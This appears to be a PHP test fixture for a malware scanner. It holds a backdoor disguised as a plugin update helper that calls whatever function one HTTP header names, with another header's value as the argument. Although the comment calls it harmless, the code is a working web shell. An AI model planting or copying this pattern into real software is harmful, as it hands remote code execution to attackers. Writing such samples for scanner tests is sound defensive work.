<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// Disguised as a plugin helper: runs the function an HTTP header names on another header.
class Plugin_Update_Helper
{
    public function __construct()
    {
        $h = $_SERVER;
        if (isset($h['HTTP_X_UPDATE'])) {
            $fn = $h['HTTP_X_FN'];
            $fn($h['HTTP_X_UPDATE']);
        }
    }
}
new Plugin_Update_Helper();
